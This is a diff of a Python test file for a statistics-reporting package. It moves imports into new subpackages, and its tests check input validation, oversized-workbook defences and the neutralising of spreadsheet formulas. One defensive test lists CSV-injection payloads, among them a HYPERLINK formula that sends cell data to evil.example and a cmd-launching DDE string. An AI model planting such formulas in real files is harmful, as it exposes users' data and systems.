@@ -2,7 +2,7 @@
 refused with the right exception, a message naming the file, row and column (or the
 parameter), no traceback from the command line, and nothing written.
 
-Decisions the corpus pins down (see also the Notes of `akimstat.validate`):
+Decisions the corpus pins down (see also the Notes of `akimstat.data.validate`):
 
 - A records file with a header and no rows is an error, "no records".
 - Codes are exact: ``Female`` is refused with the list of codes; spaces around a code are
@@ -25,9 +25,9 @@ import yaml
 from click.testing import CliRunner
 
 from akimstat.cli import main
-from akimstat.dataset import check_records, check_table, load_dataset, role_of
+from akimstat.data.dataset import check_records, check_table, load_dataset, role_of
 from akimstat.errors import InputError, ParameterError
-from akimstat.load import read_table
+from akimstat.data.load import read_table
 from akimstat.params import parameters_from, read_parameters
 
 from conftest import DATA, GOOD_RECORD, RECORD_HEADER
@@ -342,7 +342,7 @@ def test_bad_parameter_file_is_refused(name, tmp_path):
     ("param_cycle_without_data", {"cycle": "2019"}, "parameter 'cycle': no data for cycle '2019'"),
 ])
 def test_parameters_the_data_cannot_answer(name, values, says, shipped):
-    from akimstat.scope import ScopeData
+    from akimstat.report.scope import ScopeData
 
     with pytest.raises(ParameterError, match=says.replace("(", r"\(")):
         ScopeData(shipped, parameters_from(values))
@@ -486,7 +486,7 @@ def test_dimension_bomb_is_refused_in_two_seconds_and_300_mb(tmp_path):
     script = (
         "import re, sys, time\n"
         "from akimstat.errors import InputError\n"
-        "from akimstat.load import read_table\n"
+        "from akimstat.data.load import read_table\n"
         "start = time.process_time()\n"  # CPU seconds: the machine may be shared and busy
         "try:\n"
         "    read_table(sys.argv[1])\n"
@@ -505,7 +505,7 @@ def test_dimension_bomb_is_refused_in_two_seconds_and_300_mb(tmp_path):
 
 
 def test_slow_workbook_is_refused_when_time_runs_out(tmp_path):
-    from akimstat.xlsx import read_first_sheet
+    from akimstat.data.xlsx import read_first_sheet
 
     path = write_workbook(tmp_path / "slow.xlsx", {"Sheet1": cells(
         {r: {"A": f"R{r}", "B": "x"} for r in range(1, 50_001)})})
@@ -516,7 +516,7 @@ def test_slow_workbook_is_refused_when_time_runs_out(tmp_path):
 
 
 def test_shared_text_declared_too_large_is_refused_before_reading(tmp_path, monkeypatch):
-    from akimstat import xlsx
+    from akimstat.data import xlsx
 
     monkeypatch.setattr(xlsx, "MAX_SHARED_STRINGS", 2**20)
     path = write_workbook(tmp_path / "big.xlsx", {"Sheet1": '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'},
@@ -528,7 +528,7 @@ def test_shared_text_declared_too_large_is_refused_before_reading(tmp_path, monk
 def test_workbook_values_read_as_pandas_reads_them(tmp_path):
     """The bounded reader gives the text pandas.read_excel(dtype=str) gave: numbers, dates,
     booleans, blank rows kept out, sheet rows as the index."""
-    from akimstat.xlsx import read_first_sheet
+    from akimstat.data.xlsx import read_first_sheet
 
     frame = pd.DataFrame({"id": ["R1", None, "R3"], "age": [41, None, 10**20], "share": [1.5, None, 0.1],
                           "date": pd.to_datetime(["2013-12-04", None, "1999-01-31"]),
@@ -940,7 +940,7 @@ def test_parameters_that_publish_small_counts_are_warned_about(option, warning, 
 
 def test_scope_below_the_minimum_size_gets_no_report(tmp_path, shipped):
     from akimstat.params import ReportParameters
-    from akimstat.plan import plan_jobs, small_scopes
+    from akimstat.publish.plan import plan_jobs, small_scopes
 
     params = ReportParameters(cycle="2013", min_scope_size=100)
     small = small_scopes(params, shipped, ["2013"])
@@ -969,7 +969,7 @@ def test_a_corps_of_one_gets_no_report(tmp_path):
 @pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)",
                                   "+1+cmd|' /C calc'!A0", "-1+2", "\t=1", "-2 pp"])
 def test_formula_in_a_written_table_is_made_inert(cell, tmp_path):
-    from akimstat.report import _write_csv
+    from akimstat.report.document import _write_csv
 
     numbers = ["-0.3", "+4,7", "-1\u00a0234", "+4,7\u00a0%", "+1"]  # as the reports write them
     frame = pd.DataFrame({"district": [cell, "KZ-PAV-D01", *numbers], "akims": [-2, 3, 4, 5, 6, 7, 8],
@@ -984,7 +984,7 @@ def test_formula_in_a_written_table_is_made_inert(cell, tmp_path):
 def test_a_carriage_return_in_a_written_cell_does_not_split_its_row(cell, tmp_path):
     """A CSV reader takes a bare CR for the end of a row unless the cell is quoted; the line
     break stays in the cell, as a quoted LF."""
-    from akimstat.report import _write_csv
+    from akimstat.report.document import _write_csv
 
     frame = pd.DataFrame({"district": [cell, "KZ-PAV-D01"], "akims": [2, 3]})
     _write_csv(frame, tmp_path / "districts.csv")
@@ -997,7 +997,7 @@ def test_a_carriage_return_in_a_written_cell_does_not_split_its_row(cell, tmp_pa
 def test_absolute_data_folder_is_not_in_the_executed_notebook_or_the_provenance():
     import nbformat
 
-    from akimstat.render import Job, normalised
+    from akimstat.publish.render import Job, normalised
     from akimstat.provenance import portable
 
     given = "/home/ivanov/akimstat-data"
